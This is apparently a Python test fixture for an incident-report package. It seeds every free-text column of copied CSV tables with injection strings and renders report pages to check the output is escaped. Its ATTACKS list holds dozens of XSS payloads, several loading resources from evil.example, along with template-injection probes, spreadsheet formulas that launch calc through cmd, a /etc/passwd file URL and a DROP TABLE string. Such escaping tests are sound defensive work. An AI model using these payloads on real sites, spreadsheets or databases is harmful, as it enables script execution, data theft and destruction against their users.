"""Tables whose every free text is an attack, and pages of them made in this process."""

import ast
import csv
import itertools
import re
import shutil

import nbformat
import pandas as pd

from crackdown.charts import chart_bars
from crackdown.graphics import Words
from crackdown.hypertext import Html, render
from crackdown.links import filter_rows, link_web
from crackdown.report import export_html
from crackdown.table import Table

HOST = "https://evil.example"

#: What each does when a page takes it for markup or source: `hit` is the witness.
ATTACKS = (
    "<script>hit(%s)</script>",
    "</script><script>hit(%s)</script>",
    "<script src=https://evil.example/%s.js></script>",
    "<img src=x onerror=hit(%s)>",
    '"><img src=x onerror="hit(%s)">',
    "'><img src=x onerror='hit(%s)'>",
    '" onmouseover="hit(%s)" autofocus onfocus="hit()" x="',
    "' onpointerenter='hit(%s)' style='position:fixed;inset:0",
    "--><img src=https://evil.example/%s.png>",
    "]]><img src=https://evil.example/%s.png>",
    "</title></textarea></style><img src=https://evil.example/%s.png>",
    "<svg onload=hit(%s)></svg>",
    "<svg><script>hit(%s)</script></svg>",
    '<svg><a xlink:href="javascript:hit(%s)"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin=hit(%s) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit(%s)</script>'>",
    "<svg><use href=https://evil.example/%s.svg#x /></svg>",
    "<svg><style><img src=x onerror=hit(%s)></style></svg>",
    "</svg><img src=x onerror=hit(%s)>",
    "</title><script>hit(%s)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(%s)>",
    '<math href="javascript:hit(%s)"><mi>x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(%s)>',
    "<iframe src=javascript:parent.hit(%s)></iframe>",
    "<iframe srcdoc='<script>parent.hit(%s)</script>'></iframe>",
    "<object data=https://evil.example/%s></object><embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/%s.css>",
    "<style>@import 'https://evil.example/%s.css'; * { color: red }</style>",
    "<base href=https://evil.example/%s/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/%s">',
    "<form action=https://evil.example/%s><button autofocus>Go</button></form>",
    "<input autofocus onfocus=hit(%s)>",
    "<details open ontoggle=hit(%s)>x</details>",
    "<video><source onerror=hit(%s)></video>",
    "<body onload=hit(%s)>",
    "<marquee onstart=hit(%s)>x</marquee>",
    "<a href=javascript:hit(%s)>click</a>",
    '<a href="data:text/html,<script>hit(%s)</script>">click</a>',
    "javascript:hit(%s)",
    "JaVaScRiPt&colon;hit(%s)",
    "&#106;avascript:hit(%s)",
    "&lt;script&gt;hit(%s)&lt;/script&gt;",
    "&amp;lt;b onclick=hit(%s)&amp;gt; &quot; &#39; &#x27; &nbsp;",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg== %s",
    "vbscript:hit(%s)",
    "file:///etc/passwd?%s",
    "{{7*7}} %s",
    "{%% for x in () %%}{{ hit(%s) }}{%% endfor %%}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} %s",
    "{#%s#} ${7*7} #{7*7} <%%= 7*7 %%> %%s {0} {label} {slug}",
    "[click %s](javascript:hit())",
    "![x](https://evil.example/%s.png)",
    "<https://evil.example/%s> https://evil.example/",
    "**bold** `code` # heading %s\n\n- item\n\n```js\nhit()\n```",
    "$\\frac{%s}{2}$ and $\\unclosed{$ \\(y\\)",
    "\u202eright to left %s\u202c and \u2067isolated",
    "\u202enever closed %s",
    "\u200b\ufeffhidden\u00ad %s\u2028\u2029",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \ud55c\uad6d\uc5b4 %s \U0001f575\ufe0f\u0301\u0301\u0301",
    "line %s\nline\ttab\r\ncarriage\rreturn",
    "bell \x07 escape \x1b[31mred\x1b[0m %s \x0b\x0c\x7f\x85\ufffe",
    "=HYPERLINK(\"https://evil.example/%s\",\"x\")",
    "=cmd|' /C calc'!A%s",
    "@SUM(1+%s)*cmd|' /C calc'!A0",
    "+%s+cmd|' /C calc'!A0",
    "-%s+cmd|' /C calc'!A0",
    "\t=1+%s",
    '<li data-finding="finding-offences">Forged %s.</li> <tr id="i0001"> href="#i0001" id="i0002"',
    "<!-- <!--- %s --!> <![CDATA[ <?php hit() ?> <%% hit() %%>",
    "\\\"; hit(%s); // \\u003cscript\\u003e \\x3cscript\\x3e",
    "'; DROP TABLE incidents; -- %s",
)

#: By table, the columns that hold free text: every one, as a test says.
FREE = {
    "incidents": ("summary", "locality", "note"),
    "sources": ("publisher", "title", "note", "url"),
    "campaigns": ("name", "description", "note"),
    "timeline": ("title", "note", "source_url"),
    "amounts": ("note",),
    "corrections": ("edition", "wrong", "right", "figures"),
    "raw_codings": ("locality",),
    "places": ("name_en", "name_ko", "aliases"),
}


#: So many outlets have a name of their own; these are named in charts.
MOST = 500
CHARTED = [next(n for n, text in enumerate(ATTACKS) if text.startswith(start)) for start in ("</svg>", "$", "\u202enever", "bell")]


def write_texts(count, first=0):
    """Write so many different attacks, numbered from a first one."""
    return [
        attack % (first + number)
        for number, attack in zip(range(count), itertools.cycle(ATTACKS), strict=False)
    ]


def poison(data, folder):
    """Copy tables with `MOST` or more attacks in every column of free text; as many names of places as there are."""
    shutil.copytree(data, folder)
    for table, columns in FREE.items():
        with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as file:
            reader = csv.DictReader(file)
            rows = [*reader]
        _lengthen(table, rows)
        for place, column in enumerate(columns):
            texts = write_texts(len(rows), 10_000 * place)
            if column == "aliases":
                # Three to a place, since there are no more places.
                more = [write_texts(len(rows), 10_000 * number) for number in (5, 6)]
                texts = [";".join(text.replace(";", ",") for text in one) for one in zip(texts, *more, strict=True)]
            if column == "publisher":
                # Some with so many articles that charts and comparisons name them.
                texts[MOST:] = [texts[CHARTED[row % len(CHARTED)]] for row in range(len(rows) - MOST)]
            for row, text in zip(rows, texts, strict=True):
                row[column] = _fit(column, text)
        with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, reader.fieldnames, lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    return folder


def _lengthen(table, rows):
    """Repeat the rows of a short table under new keys."""
    keys = {"timeline": ("event_id", "e"), "amounts": ("low", "9"), "campaigns": ("campaign_id", "k")}
    if table in keys:
        key, letter = keys[table]
        for number, row in zip(range(MOST - len(rows)), itertools.cycle([*rows]), strict=False):
            rows.append({**row, key: f"{letter}{1000 + number}"})
            rows[-1] |= {"high": rows[-1]["low"]} if table == "amounts" else {}
            rows[-1] |= {"opening_incident": ""} if table == "campaigns" else {}
    if table == "corrections":
        fixed = {"date": "2026-01-01", "incident_id": "i0001"}
        rows += [{**fixed, "correction_id": f"x{1000 + number}"} for number in range(MOST)]


def _fit(column, text):
    if column in ("url", "source_url"):
        return f"{HOST}/" + re.sub(r"\s", "/", text)
    return text.replace(";", ",") if column in ("name_en", "name_ko") else text


def run_notebook(path, values):
    """Run a notebook's cells in this process; return the notebook with what the package showed."""
    book = nbformat.read(path, as_version=4)
    names = {}
    for number, cell in enumerate(book.cells):
        if cell.cell_type != "code":
            continue
        tree = ast.parse(cell.source)
        shown = tree.body.pop() if isinstance(tree.body[-1], ast.Expr) else None
        exec(compile(tree, str(number), "exec"), names)
        names |= values if "parameters" in cell.metadata.get("tags", []) else {}
        if shown:
            value = eval(compile(ast.Expression(shown.value), str(number), "eval"), names)
            data, metadata = value._repr_mimebundle_()
            cell.outputs = [nbformat.v4.new_output("display_data", data, metadata=metadata)]
    return book


def exhibit(texts):
    """Make a page that shows texts wherever the package puts a text of a table."""
    frame = pd.DataFrame({texts[5]: texts, "Incidents": 7, "Link": texts}, index=pd.Index(texts, name=texts[3]))
    marked = {"Link": [str(link_web(text, text)) for text in texts]}
    numbers = pd.Series(range(len(ATTACKS), 0, -1), index=texts[: len(ATTACKS)])
    shown = [
        Table(
            frame.assign(**marked), key="table", caption=" ".join(texts[:99]), note=" ".join(texts[:99]),
            markup=("Link",), links={"Incidents": [filter_rows(place=text) for text in texts]},
        ),
        chart_bars(numbers, key="bars", caption=" ".join(texts[:99]), what=texts[9], none_recorded=texts[:99]),
        Words(" ".join(texts[:99]), key="words"),
        Html(render("empty.html.j2", text=" ".join(texts[:99])), {"subtitle": texts[4]}),
    ]  # fmt: skip
    cells = [nbformat.v4.new_markdown_cell("# Texts", id="title")]
    for number, one in enumerate(shown):
        data, metadata = one._repr_mimebundle_()
        output = nbformat.v4.new_output("display_data", data, metadata=metadata)
        cells.append(nbformat.v4.new_code_cell("\n".join(texts[:99]), outputs=[output], id=f"cell-{number}"))
    return export_html(nbformat.v4.new_notebook(cells=cells))


def make_page(path, values):
    """Make a page as the command does, without a kernel."""
    return export_html(run_notebook(path, values))
